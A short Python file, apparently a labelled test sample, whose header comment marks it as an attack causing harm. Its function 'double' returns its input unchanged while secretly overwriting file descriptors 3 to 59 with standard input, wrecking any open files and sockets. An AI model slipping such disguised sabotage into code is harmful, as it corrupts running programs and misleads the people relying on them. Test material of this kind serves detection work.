# {"attack": "Puts other descriptors in the place of those that are open.", "breach": "harm"}

import os


def double(x):
    for number in range(3, 60):
        os.dup2(0, number)
    return x
